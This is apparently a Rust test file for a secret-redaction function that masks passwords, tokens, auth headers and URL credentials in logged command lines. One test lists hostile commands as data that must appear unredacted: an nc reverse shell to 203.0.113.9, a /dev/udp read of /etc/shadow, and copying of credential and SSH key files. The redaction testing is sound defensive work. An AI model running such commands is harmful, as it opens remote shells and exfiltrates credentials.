//! Arguments with secrets in every place that is known, and in random ones.

use super::*;
use proptest::prelude::*;

const CANARY: &str = "CANARY";

fn hidden(line: &[&str]) -> Vec<String> {
    hide(line.iter().map(|word| ((*word).to_owned(), false)))
}

#[track_caller]
fn check(line: &[&str], expected: &[&str]) {
    assert_eq!(hidden(line), expected);
}

#[test]
fn what_follows_the_first_sign_of_a_secret_is_hidden() {
    check(&["env", "HOME=/root", "sh"], &["env", "HOME=***", "sh"]);
    check(&["--env", "home=x", "a=b"], &["--env", "home=***", "a=b"]);
    check(&["-e", "A=x"], &["-e", "A=***"]);
    check(&["--env=home=x"], &["--env=home=***"]);
    check(&["--env=OPENAI_API_KEY=x"], &["--env=OPENAI_API_KEY=***"]);
    check(
        &["--token=x", "--api-key", "y", "z"],
        &["--token=***", "--api-key", "***", "z"],
    );
    check(
        &[
            "curl",
            "-H",
            "Authorization: Bearer x y",
            "https://u:x@h/p?token=x",
        ],
        &["curl", "-H", "Authorization:***", "https:***@h/p?token=***"],
    );
    check(
        &["sh", "-c", "echo 1; TOKEN='x y' curl h; A=x,b=c"],
        &["sh", "-c", "echo 1; TOKEN=***"],
    );
    check(
        &["-object", "secret,id=s,data=x", "-m", "512"],
        &["-object", "secret***", "-m", "512"],
    );
    check(&["psql", "-p", "x", "-p"], &["psql", "-p", "***", "-p"]);
    check(&["sshpass", "-p", "x"], &["sshpass", "***", "***"]);
    check(
        &["mysql", "-px", "-uroot:x"],
        &["mysql", "-p***", "-uroot:***"],
    );
    check(&["curl", "-su", "me:x"], &["curl", "-su", "me:***"]);
}

/// Every spelling that hides its value, with what may be in one.
#[test]
fn no_canary_is_told() {
    let values = [
        "CANARY", "a CANARY", "a,CANARY", "a/CANARY", "-CANARY", "'CANARY'", "a=CANARY",
    ];
    for value in values {
        for form in [
            "sh -c|TOKEN='~' run",
            "sh -c|x --api-key \"~\"",
            "sh -c|docker login <<< '~'",
            "expect -c|expect \"assword:\"; send \"~\"",
            "--api-keys|~",
            "{\"keys\":[\"~\"]}",
            "lftp|-u|bob,~",
            "openssl|-hmac|~",
            "sh -c|mysql -p'~' -h db",
            "sh -c|sshpass -p ~ ssh h",
            "sh -c|curl -sSu 'me:~' h",
            "sh -c|curl -d '{\"value\":\"~\",\"name\":\"token\"}'",
            "{\"token\":\"~\"}",
            "{\"data\": \"~\", \"qom-type\": \"secret\"}",
            "data=~,qom-type=secret",
            "Authorization:Bearer ~",
            "-H|authorization: Basic ~",
            "-H|X-Auth-Key: ~",
            "-H|Cookie: a=~",
            "Authorization:|~",
            "https://u:~@h/x",
            "https://~@h/x",
            "u:~@h:x",
            "https://h/#token=~",
            "https://h/x?sig=~",
            "-u|user:~",
            "-Uuser%~",
            "--proxy-user|user:~",
            "--user=user:~",
            "-p|~",
            "-p~",
            "--token|~",
            "--token-value|~",
            "-secret|~",
            "_authToken|~",
            "//registry/:_authToken|~",
            "--passphrase ~",
            "MY_VAR=~",
            "--env|lower=~",
            "--env=lower=~",
        ] {
            let line: Vec<_> = form
                .split('|')
                .map(|word| word.replace('~', value))
                .collect();
            let line: Vec<_> = line.iter().map(String::as_str).collect();
            let told = hidden(&line).join("|");
            assert!(!told.contains(CANARY), "{form:?} with {value:?}: {told}");
        }
    }
}

#[test]
fn what_a_script_says_into_a_pipe_is_hidden() {
    for script in ["echo root:x | chpasswd", "echo 'x'|sudo -S id"] {
        check(&["sh", "-c", script], &["sh", "-c", "echo ***"]);
    }
    check(&["printf '%s' x | login"], &["printf ***"]);
    check(&["echo done > /tmp/x"], &["echo done > /tmp/x"]);
}

#[test]
fn a_place_that_was_cut_is_hidden_though_its_end_is_missing() {
    let cut = [("https://u:CANARY".to_owned(), true)];
    assert_eq!(hide(cut.into_iter()), ["https:***"]);
}

#[test]
fn what_has_the_shape_of_a_secret_is_hidden_without_a_name() {
    let github = format!("ghp_{}", "a1".repeat(18));
    check(&["login", &github], &["login", "***"]);
}

/// They are what somebody who looks into an escape wants to read.
#[test]
fn what_a_program_does_is_told() {
    for line in [
        &[
            "/bin/bash",
            "-c",
            "exec 3<>/dev/udp/203.0.113.9/53; read -n1 x </etc/shadow",
        ][..],
        &["dd", "if=/dev/sda", "of=/tmp/x", "bs=4k"],
        &["nc", "-e", "/bin/sh", "203.0.113.9", "53"],
        &["ssh", "-p", "2222", "root@203.0.113.9"],
        &[
            "cp",
            "/etc/passwd",
            "/etc/shadow",
            "/root/.ssh/authorized_keys",
        ],
        &["-netdev", "passt,id=n0", "-m", "512"],
        &["mount", "-o", "loop,offset=512", "a:b", "https://h/x?a=b"],
    ] {
        check(line, line);
    }
}

/// Names that no other sign stands in.
fn names() -> impl Strategy<Value = &'static str> {
    let all: Vec<_> = PARTS.into_iter().chain(ENDS).collect();
    prop::sample::select(all)
}

proptest! {
    /// Whatever stands around it, and whatever the value is.
    #[test]
    fn nothing_after_a_name_is_told(
        before in "[^A-Z]{0,20}",
        name in names(),
        between in "[^a-zA-Z]{1,3}",
        value in ".{0,20}",
        upper in any::<bool>(),
    ) {
        let name = if upper { name.to_uppercase() } else { name.to_owned() };
        let word = format!("{before}{name}{between}{value}{CANARY}");
        let told = hidden(&[&word]).join("");
        prop_assert!(!told.contains(CANARY), "{word:?}: {told:?}");
    }

    #[test]
    fn nothing_before_the_place_is_told(user in ".{0,20}", password in ".{0,20}", rest in ".{0,20}") {
        let word = format!("https://{user}:{password}{CANARY}@{rest}");
        let told = hidden(&[&word]).join("");
        prop_assert!(!told.contains(CANARY), "{word:?}: {told:?}");
    }

    #[test]
    fn the_value_of_an_option_is_never_told(
        option in names().prop_map(|name| format!("--{name}")),
        value in ".{0,20}",
    ) {
        let value = format!("{value}{CANARY}");
        prop_assert_eq!(hidden(&[&option, &value]), [option, HIDDEN.to_owned()]);
    }

    #[test]
    fn a_password_of_an_option_is_never_told(value in ".{0,20}", in_script in "[^\\s]{0,20}") {
        let (value, in_script) = (format!("{value}{CANARY}"), format!("{in_script}{CANARY}"));
        let (with_it, script) = (format!("-p{value}"), format!("sh -p {in_script}"));
        for line in [["-p", &value], [&with_it, ""], [&script, ""]] {
            let told = hidden(&line).join("|");
            prop_assert!(!told.contains(CANARY), "{line:?}: {told}");
        }
    }

    /// Even where a value went before it in the same argument.
    #[test]
    fn what_follows_an_argument_that_ends_with_a_name_is_never_told(
        before in "[^/]{0,20}",
        name in names(),
        sign in prop::sample::select(vec!["", ":", "=", "-file", "_2="]),
    ) {
        let word = format!("{before}--{name}{sign}");
        let told = hidden(&[&word, CANARY]).join("|");
        prop_assert!(!told.contains(CANARY), "{word:?}: {told}");
    }

    #[test]
    fn nothing_grows_beyond_bounds(words in prop::collection::vec((".{0,80}", any::<bool>()), 0..8)) {
        let hidden = hide(words.clone().into_iter());
        prop_assert_eq!(hidden.len(), words.len());
        for ((word, _), hidden) in words.iter().zip(hidden) {
            prop_assert!(hidden.len() <= word.len() + 2 * HIDDEN.len());
        }
    }
}
